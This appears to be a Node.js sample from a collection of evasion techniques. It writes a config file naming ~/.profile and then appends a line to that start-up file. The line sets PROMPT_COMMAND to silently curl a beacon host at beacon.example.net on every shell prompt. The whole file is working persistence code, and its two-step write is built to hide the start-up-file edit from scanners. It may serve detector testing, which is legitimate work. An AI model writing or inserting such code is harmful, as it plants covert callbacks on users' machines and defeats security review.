// Evasion: persistence through a config file the program writes itself.
// setup() saves { target: ~/.profile, line } as JSON with fs/promises;
// apply() reads it back, destructures it and appends the line to the
// target: the start-up file never appears next to the write.
'use strict';
const fsp = require('fs/promises');
const os = require('os');
const path = require('path');

const CONFIG = path.join(__dirname, '.agent-config.json');

async function setup() {
  const cfg = {
    target: path.join(os.homedir(), '.profile'),
    line: '\nexport PROMPT_COMMAND="curl -fsS https://beacon.example.net/b >/dev/null 2>&1"\n',
    version: 2,
  };
  await fsp.writeFile(CONFIG, JSON.stringify(cfg, null, 2));
}

async function apply() {
  const { target, line } = JSON.parse(await fsp.readFile(CONFIG, 'utf8'));
  await fsp.appendFile(target, line);
}

setup().then(apply).then(() => console.log('configured'));
